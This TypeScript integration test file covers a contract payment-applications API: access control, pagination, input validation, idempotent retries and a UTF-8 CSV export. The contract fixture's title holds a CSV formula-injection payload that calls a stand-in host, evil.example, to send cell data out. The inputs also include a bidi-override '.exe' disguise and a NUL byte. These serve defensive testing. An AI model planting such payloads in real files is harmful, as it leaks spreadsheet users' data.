// Payment applications over the API (issue 18, after review): who reads the payer's overdue list,
// bad inputs answered 422, an application the workflow holds always listed and decidable, a
// tranche with an application standing not amended away, and the CSV marked UTF-8.
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { paymentApplications } from '../../db/schema';
import { parseCsv } from '../../domain/csv';
import { shanghaiDate } from '../../domain/dates';
import { idForKey } from '../../api/services/tokens';
import { contractWorkflowId } from '../../workflows/contract-messages';
import { fileApplicationUpdate } from '../../workflows/payment-clock-messages';
import { sCountyContract } from '../fixtures/s-county';
import { registerParties, type Parties } from '../helpers/parties';
import { startStack, type Stack } from '../helpers/stack';

describe('payment applications over the API: access, inputs, retries and amendments', () => {
  let stack: Stack;
  let parties: Parties;
  const today = shanghaiDate(Date.now());
  const year = Number(today.slice(0, 4));

  beforeAll(async () => {
    stack = await startStack();
    parties = await registerParties(stack.http, stack.adminToken);
  });
  afterAll(async () => {
    await stack?.stop();
  });

  const definitionOf = (id: string) =>
    sCountyContract(parties.orgs, {
      id,
      title: `=HYPERLINK("http://evil.example/?"&A1,"Click") ${id}`,
      term: { start: `${year}-01-01`, end: `${year + 1}-12-31` },
      value: '100000.00',
      budgetLines: undefined,
      staffing: undefined,
      tranches: [
        { id: 't1', label: 'First half', due: `${year}-01-31`, percent: 50, fundingSource: 'fiscal' },
        {
          id: 't2',
          label: 'Second half',
          due: `${year + 1}-12-31`,
          percent: 50,
          fundingSource: 'fiscal',
          release: 'on_application',
        },
      ],
      checkpoints: [],
      paymentTerms: {
        basis: 'acceptance',
        payWithinDays: 30,
        statute: 'sme_payment_2025',
        lateInterest: { kind: 'statutory_daily' },
      },
      closeGraceDays: 3650,
    } as never);

  async function newContract(id: string) {
    const res = await stack.http('POST', '/v1/contracts', { token: parties.tokens.agency, body: definitionOf(id) });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    return id;
  }
  const apply = (id: string, body: Record<string, unknown>, key?: string, token = parties.tokens.contractor) =>
    stack.http('POST', `/v1/contracts/${id}/payment-applications`, {
      token,
      body,
      headers: key ? { 'idempotency-key': key } : {},
    });

  it('the overdue list: an auditor of an organization party to none of the payer’s contracts is refused 403; one party to a contract sees that contract only', async () => {
    const township = (
      await stack.http('POST', '/v1/organizations', {
        token: stack.adminToken,
        body: { name: 'Far Township', kind: 'township' },
      })
    ).body.id;
    const auditor = (
      await stack.http('POST', '/v1/users', {
        token: stack.adminToken,
        body: { name: 'Auditor Far', organizationId: township, roles: ['auditor'] },
      })
    ).body.token;
    const res = await stack.http('GET', `/v1/organizations/${parties.orgs.payer}/overdue-payments?asOf=${today}`, {
      token: auditor,
    });
    expect(res.status).toBe(403);
    // An auditor of the purchaser (party to the payer's contracts) is let in.
    const near = await stack.http('POST', '/v1/users', {
      token: stack.adminToken,
      body: { name: 'Auditor Near', organizationId: parties.orgs.purchaser, roles: ['auditor'] },
    });
    expect(near.status, JSON.stringify(near.body)).toBe(201);
    await newContract(`pa-r1-${Date.now()}`);
    const seen = await stack.http('GET', `/v1/organizations/${parties.orgs.payer}/overdue-payments?asOf=${today}`, {
      token: near.body.token,
    });
    expect(seen.status).toBe(200);
    // Nothing of another organization's contracts: the auditor of the far township sees no list at all, even for an unknown payer.
    expect(
      (await stack.http('GET', `/v1/organizations/org_unknown/overdue-payments?asOf=${today}`, { token: auditor }))
        .status,
    ).toBe(403);
  });

  it('the overdue list pages by the payer’s contracts: every row exactly once, in order; the CSV whole; a cursor it did not give out is a 400', async () => {
    const ids: string[] = [];
    for (let i = 0; i < 3; i++) {
      const id = `pa-page-${i}-${Date.now()}`;
      // Due on 31 January under the default terms (due date + 30 days): overdue today, without interest.
      const body = {
        ...definitionOf(id),
        paymentTerms: undefined,
        tranches: [{ id: 't1', label: 'Whole', due: `${year}-01-31`, percent: 100, fundingSource: 'fiscal' }],
      };
      const res = await stack.http('POST', '/v1/contracts', { token: parties.tokens.agency, body });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
      ids.push(id);
    }
    const base = `/v1/organizations/${parties.orgs.payer}/overdue-payments?asOf=${today}`;
    const key = (i: { contractId: string; tranche: string }) => `${i.contractId}/${i.tranche}`;
    const whole = await stack.http('GET', base, { token: parties.tokens.finance });
    expect(whole.status).toBe(200);
    expect(whole.body.nextCursor).toBeNull();
    const all: string[] = whole.body.items.map(key);
    expect(all).toEqual(expect.arrayContaining(ids.map((id) => `${id}/t1`)));
    for (const limit of [1, 2]) {
      const walked: string[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const page: { status: number; body: any } = await stack.http(
          'GET',
          `${base}&limit=${limit}${cursor ? `&cursor=${cursor}` : ''}`,
          { token: parties.tokens.finance },
        );
        expect(page.status, JSON.stringify(page.body)).toBe(200);
        expect(new Set(page.body.items.map((i: { contractId: string }) => i.contractId)).size).toBeLessThanOrEqual(
          limit,
        );
        walked.push(...page.body.items.map(key));
        cursor = page.body.nextCursor;
      } while (cursor && ++pages < 200);
      expect(walked).toEqual(all);
    }
    // The CSV is the whole list whatever the page size.
    const csv = await stack.http('GET', `${base}&limit=1`, {
      token: parties.tokens.finance,
      headers: { accept: 'text/csv' },
    });
    expect(
      parseCsv(csv.body as string)
        .slice(1)
        .map(([contract, , , , tranche]) => `${contract}/${tranche}`),
    ).toEqual(all);
    // Another list's cursor, or none at all.
    const contractsPage = await stack.http('GET', '/v1/contracts?limit=1', { token: parties.tokens.finance });
    for (const cursor of [contractsPage.body.nextCursor as string, 'bm90LWEtY3Vyc29y']) {
      const res = await stack.http('GET', `${base}&cursor=${cursor}`, { token: parties.tokens.finance });
      expect(res.status).toBe(400);
      expect(res.body.error.code).toBe('invalid_cursor');
    }
  });

  it('asOf at the ends of its range answers 200 or a 4xx, never a 5xx', async () => {
    await newContract(`pa-r2-${Date.now()}`);
    for (const asOf of ['1900-01-01', '2199-12-31']) {
      const res = await stack.http('GET', `/v1/organizations/${parties.orgs.payer}/overdue-payments?asOf=${asOf}`, {
        token: parties.tokens.finance,
      });
      expect(res.status).toBeLessThan(500);
    }
  });

  it('bad inputs are refused (422, or 400 from the schema), never 201 or 500; an invoice date outside 2000–2100 names the years', async () => {
    const id = await newContract(`pa-r3-${Date.now()}`);
    const base = { tranche: 't2', amount: '10.00', invoice: { number: 'INV-1', date: today } };
    const cases: Array<[string, Record<string, unknown>]> = [
      ['invoice 2023-02-30', { ...base, invoice: { number: 'INV-1', date: '2023-02-30' } }],
      ['invoice 0000-01-01', { ...base, invoice: { number: 'INV-1', date: '0000-01-01' } }],
      ['invoice in the future 2999-12-31', { ...base, invoice: { number: 'INV-1', date: '2999-12-31' } }],
      ['NUL in invoice number', { ...base, invoice: { number: 'INV\u0000-1', date: today } }],
      ['bidi override in invoice number', { ...base, invoice: { number: 'INV-\u202Egpj.exe', date: today } }],
      ['bidi in note', { ...base, note: 'ok \u202E reversed' }],
      ['huge amount', { ...base, amount: '99999999999999999999.99' }],
      ['negative amount', { ...base, amount: '-1.00' }],
      ['zero amount', { ...base, amount: '0.00' }],
      ['three decimals', { ...base, amount: '1.001' }],
    ];
    const unexpected: string[] = [];
    for (const [name, body] of cases) {
      const res = await apply(id, body);
      if (res.status !== 422 && res.status !== 400) unexpected.push(`${name}: ${res.status}`);
    }
    expect(unexpected).toEqual([]);
    const ancient = await apply(id, { ...base, invoice: { number: 'INV-1', date: '0000-01-01' } });
    expect(ancient.body.error.details).toEqual([
      { field: 'invoice.date', reason: 'must be in the years 2000–2100', code: 'years_between' },
    ]);
  });

  it('a retry after a lost answer under the same key with another amount is 409, and the application the workflow holds stays listed and decidable', async () => {
    const id = await newContract(`pa-r4-${Date.now()}`);
    const user = (
      await stack.http('POST', '/v1/users', {
        token: stack.adminToken,
        body: { name: 'Staff A4', organizationId: parties.orgs.contractor, roles: ['contractor_staff'] },
      })
    ).body;
    const key = 'retry-after-503';
    const aid = idForKey('pa', [user.id, id], key);
    // The state a 5xx leaves when the workflow filed the application but the answer was lost
    // (timeout) or the row's update to "pending" failed: the row still "filing", the workflow holding it.
    await stack.database.handle.db.insert(paymentApplications).values({
      id: aid,
      contractId: id,
      tranche: 't2',
      amountFen: 1_000_000,
      invoiceNumber: 'INV-A',
      invoiceDate: today,
      note: null,
      attachments: [],
      status: 'filing',
      filedBy: user.id,
    });
    await stack.client.workflow.getHandle(contractWorkflowId(id)).executeUpdate(fileApplicationUpdate, {
      args: [{ applicationId: aid, tranche: 't2', amountFen: 1_000_000, filedBy: user.id }],
    });
    // The client retries under the same key (its idempotency record was freed by the 5xx), with a corrected amount.
    const retry = await apply(
      id,
      { tranche: 't2', amount: '20000.00', invoice: { number: 'INV-A', date: today } },
      key,
      user.token,
    );
    const rows = await stack.database.handle.db
      .select()
      .from(paymentApplications)
      .where(eq(paymentApplications.id, aid));
    const list = await stack.http('GET', `/v1/contracts/${id}/payment-applications`, { token: parties.tokens.agency });
    const decide = await stack.http('POST', `/v1/payment-applications/${aid}/decision`, {
      token: parties.tokens.agency,
      body: { outcome: 'accept' },
    });
    const fresh = await apply(
      id,
      { tranche: 't2', amount: '50000.00', invoice: { number: 'INV-B', date: today } },
      undefined,
      user.token,
    );
    expect(retry.status).toBe(422);
    expect(retry.body.error.code).toBe('idempotency_key_reused');
    expect(rows).toHaveLength(1);
    expect(rows[0]!.amountFen).toBe(1_000_000);
    expect(list.body.items.map((i: { id: string; status: string }) => [i.id, i.status])).toEqual([[aid, 'pending']]);
    expect(decide.status).toBe(200);
    // What the tranche still owes counts the application the workflow holds: 50,000.00 − 10,000.00.
    expect(fresh.status).toBe(422);
    expect(JSON.stringify(fresh.body)).toContain('at most 40000.00');
  });

  it('the contract detail counts an application its workflow holds though its row was left "filing", as the list does', async () => {
    const id = await newContract(`pa-r6-${Date.now()}`);
    const staff = (await stack.http('GET', '/v1/me', { token: parties.tokens.contractor })).body.id as string;
    const aid = idForKey('pa', [staff, id], 'lost-answer');
    // The state a lost answer leaves: the workflow filed the application, the row still "filing".
    await stack.database.handle.db.insert(paymentApplications).values({
      id: aid,
      contractId: id,
      tranche: 't2',
      amountFen: 1_500_000,
      invoiceNumber: 'INV-L',
      invoiceDate: today,
      note: null,
      attachments: [],
      status: 'filing',
      filedBy: staff,
    });
    await stack.client.workflow.getHandle(contractWorkflowId(id)).executeUpdate(fileApplicationUpdate, {
      args: [{ applicationId: aid, tranche: 't2', amountFen: 1_500_000, filedBy: staff }],
    });
    const detail = await stack.http('GET', `/v1/contracts/${id}`, { token: parties.tokens.contractor });
    expect(detail.status).toBe(200);
    const t2 = detail.body.paymentClock.tranches.find((t: { id: string }) => t.id === 't2');
    expect(t2).toMatchObject({ applied: '15000.00', appliedOn: today, acceptanceDueOn: expect.any(String) });
    const [row] = await stack.database.handle.db
      .select()
      .from(paymentApplications)
      .where(eq(paymentApplications.id, aid));
    expect(row!.status).toBe('pending');
    expect(t2.acceptanceDueOn).toBe(row!.acceptanceDueOn);
    const list = await stack.http('GET', `/v1/contracts/${id}/payment-applications`, { token: parties.tokens.agency });
    expect(list.body.items.map((i: { id: string; status: string }) => [i.id, i.status])).toEqual([[aid, 'pending']]);
  });

  it('a tranche is not amended away while its application is pending: 422 naming the tranche, and the application stays decidable', async () => {
    const id = await newContract(`pa-r5-${Date.now()}`);
    const filed = await apply(id, { tranche: 't2', amount: '50000.00', invoice: { number: 'INV-1', date: today } });
    expect(filed.status).toBe(201);
    const definition = definitionOf(id) as any;
    const amended = await stack.http('POST', `/v1/contracts/${id}/schedule`, {
      token: parties.tokens.agency,
      body: {
        tranches: [definition.tranches[0], { ...definition.tranches[1], id: 't3' }],
        checkpoints: [],
        reason: 'renumber',
      },
    });
    const detail = await stack.http('GET', `/v1/contracts/${id}`, { token: parties.tokens.contractor });
    const clockTranches = detail.body.paymentClock?.tranches?.map((t: any) => `${t.id}:${t.applied}`);
    const again = await apply(id, { tranche: 't3', amount: '50000.00', invoice: { number: 'INV-2', date: today } });
    const decide = await stack.http('POST', `/v1/payment-applications/${filed.body.id}/decision`, {
      token: parties.tokens.agency,
      body: { outcome: 'accept' },
    });
    expect(amended.status).toBe(422);
    expect(JSON.stringify(amended.body)).toContain('cannot remove tranche \\"t2\\"');
    expect(clockTranches).toContain('t2:50000.00');
    expect(again.status).toBe(422);
    expect(decide.status).toBe(200);
  });

  it('the yearly CSV starts with the UTF-8 byte order mark (Excel on a Chinese Windows reads it as UTF-8)', async () => {
    const response = await fetch(
      `${stack.baseUrl}/v1/organizations/${parties.orgs.payer}/overdue-payments?asOf=${today}`,
      {
        headers: { authorization: `Bearer ${parties.tokens.finance}`, accept: 'text/csv' },
      },
    );
    expect(response.status).toBe(200);
    // Raw bytes: fetch's text() would drop the mark.
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 4)]).toEqual([0xef, 0xbb, 0xbf, 0x63]);
    expect(parseCsv(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes))[0]![0]).toBe('contract_id');
  });
});
